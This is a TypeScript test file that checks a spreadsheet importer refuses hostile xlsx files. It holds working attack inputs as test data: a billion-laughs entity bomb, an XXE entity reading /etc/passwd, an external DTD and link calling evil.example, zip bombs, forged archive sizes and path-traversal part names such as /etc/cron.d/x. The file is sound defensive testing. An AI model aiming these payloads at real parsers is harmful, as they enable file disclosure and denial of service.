import ExcelJS from '@protobi/exceljs';
import { strToU8, zipSync } from 'fflate';
import { beforeAll, expect, test } from 'vitest';
import { repacked } from '../testing/spoil.ts';
import { openWorkbook } from './open-workbook.ts';
import { readInWorker } from './read-in-worker.ts';

const SHEET = 'xl/worksheets/sheet1.xml';
const MEGABYTE = 1024 * 1024;
let clean: Uint8Array;

beforeAll(async () => {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Sổ bộ HTX');
  for (let row = 1; row <= 20; row += 1) sheet.addRow([row, `HTX ${row}`]);
  clean = new Uint8Array(await book.xlsx.writeBuffer());
});

/** The directory's record of the first part says these sizes. */
function lying(bytes: Uint8Array, sizes: { readonly packed: number; readonly whole: number }): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  const entry = view.getUint32(copy.length - 22 + 16, true);
  view.setUint32(entry + 20, sizes.packed, true);
  view.setUint32(entry + 24, sizes.whole, true);
  return copy;
}

const withDoctype = (doctype: string) => (xml: string) => xml.replace('<worksheet', `${doctype}<worksheet`);
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');

test.each([
  {
    what: 'a billion laughs',
    code: 'entities',
    make: () => repacked(clean, { [SHEET]: withDoctype(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`) }),
  },
  {
    what: 'an entity that reads a file',
    code: 'entities',
    make: () => repacked(clean, { [SHEET]: withDoctype('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>') }),
  },
  {
    what: 'an entity that calls another host',
    code: 'entities',
    make: () => repacked(clean, { 'xl/sharedStrings.xml': '<!DOCTYPE sst SYSTEM "http://evil.example/x.dtd"><sst/>' }),
  },
  {
    what: 'a doctype in small letters',
    code: 'entities',
    make: () => repacked(clean, { 'xl/workbook.xml': withDoctypeInBook }),
  },
  {
    what: 'an archive in an archive in an archive',
    code: 'other-archive',
    make: () => zipSync({ 'a.zip': zipSync({ 'b.zip': clean }) }),
  },
  {
    what: 'a part in a folder of the machine',
    code: 'unsafe-name',
    make: () => repacked(clean, { '/etc/cron.d/x': 'x' }),
  },
  { what: 'a part on another drive', code: 'unsafe-name', make: () => repacked(clean, { 'C:\\x': 'x' }) },
  {
    what: 'two parts of one name',
    code: 'unsafe-name',
    make: () => repacked(clean, { 'XL/WORKBOOK.XML': '<workbook/>' }),
  },
  {
    what: 'a length that means “look elsewhere”',
    code: 'damaged',
    make: () => lying(clean, { packed: 0xffff_ffff, whole: 0xffff_ffff }),
  },
  { what: 'a size of four gigabytes', code: 'bomb', make: () => lying(clean, { packed: 40, whole: 0xffff_fffe }) },
  {
    what: 'thousands of parts',
    code: 'bomb',
    make: () => repacked(clean, Object.fromEntries(Array.from({ length: 2100 }, (_, at) => [`xl/p${at}.xml`, 'x']))),
  },
  {
    what: 'zeros a thousand times folded',
    code: 'bomb',
    make: () => repacked(clean, { 'xl/media/a.bin': new Uint8Array(60 * MEGABYTE) }),
  },
])('IMP-02 $what is refused with a sentence, at once', async ({ code, make }) => {
  const bytes = make();
  const begun = performance.now();

  const opened = openWorkbook(bytes, 'tep.xlsx');

  expect(opened).toMatchObject({ ok: false, problem: { code: `workbooks.file.${code}` } });
  expect(opened.ok ? '' : opened.problem.text).toMatch(/^\p{Lu}.{30,}\.$/u);
  expect(performance.now() - begun).toBeLessThan(3000);
});

function withDoctypeInBook(xml: string): string {
  return xml.replace('<workbook', '<!doctype x [<!entity a "b">]><workbook');
}

test.each([
  { what: 'a cell far outside any sheet', sheet: '<c r="ZZZZZZ99999999"><v>1</v></c>' },
  { what: 'rows at the end of the earth', sheet: '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>' },
  { what: 'a hundred thousand elements in each other', sheet: '<a>'.repeat(100_000) },
  { what: 'heads that never end', sheet: '<row '.repeat(200_000) },
  { what: 'merges that never end', sheet: '</sheetData><mergeCell '.repeat(100_000) },
  { what: 'one head of a megabyte', sheet: `<c ${'a'.repeat(MEGABYTE)}` },
  { what: 'spaces without end', sheet: `<v${' '.repeat(MEGABYTE)}` },
])('IMP-02 a sheet with $what ends in a workbook or a sentence, within bounds', async ({ sheet }) => {
  const bytes = repacked(clean, { [SHEET]: (xml) => xml.replace('<sheetData>', `<sheetData>${sheet}`) });
  const begun = performance.now();

  const opened = await readInWorker(bytes, 'tep.xlsx', { secondsMax: 20 });

  expect(opened.ok || /^workbooks\.file\./.test(opened.problem.code)).toBe(true);
  expect(opened.ok ? 0 : opened.problem.code === 'workbooks.file.too-slow' ? 1 : 0).toBe(0);
  expect(performance.now() - begun).toBeLessThan(20_000);
});

test('IMP-02 a sheet’s name that is no character breaks nothing', async () => {
  for (const name of ['&#x7fffffff;', '&#9999999;', '&#xFFFFFFFFFFFF;', '&#xd800;', '&amp;#60;']) {
    const bytes = repacked(clean, { 'xl/workbook.xml': (xml) => xml.replace('Sổ bộ HTX', name) });

    expect(openWorkbook(bytes, 'tep.xlsx').ok, name).toBe(true);
  }
});

test('IMP-02 a link to another file or host is left out and nothing is fetched', async () => {
  const relations =
    '<Relationships><Relationship Id="rId1" Type="x/externalLink" Target="http://evil.example/a.xlsx" TargetMode="External"/></Relationships>';
  const bytes = repacked(clean, {
    'xl/externalLinks/externalLink1.xml': strToU8('<externalLink/>'),
    'xl/externalLinks/_rels/externalLink1.xml.rels': relations,
    'xl/worksheets/_rels/sheet1.xml.rels': relations,
  });

  const opened = openWorkbook(bytes, 'tep.xlsx');

  expect(JSON.stringify(opened)).not.toContain('evil.example');
  expect(opened.ok).toBe(true);
});
